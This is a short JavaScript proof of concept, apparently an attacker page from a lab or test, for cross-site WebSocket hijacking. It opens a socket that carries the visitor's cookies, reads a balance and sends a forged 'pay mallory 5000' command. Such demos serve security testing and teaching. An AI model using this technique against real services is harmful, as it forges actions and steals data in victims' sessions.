// Cross-site WebSocket hijacking: any page may open a WebSocket to any server, and the browser adds
// the visitor's cookies of that server. Nothing but the server stands in the way.
'use strict';

const say = words => { document.getElementById('loot').textContent = words; };

async function attack() {
  const port = await (await fetch('port')).text();
  const socket = new WebSocket(`ws://${location.hostname}:${port}/`);
  let loot = '';
  socket.onopen = () => {
    socket.send('balance');
    socket.send('pay mallory 5000');
  };
  socket.onmessage = ({data}) => {
    loot += `${data}; `;
    say(`success: ${loot}`);
  };
  socket.onclose = event => say(loot ? `success: ${loot}` : `refused: ${event.code}`);
}

attack();
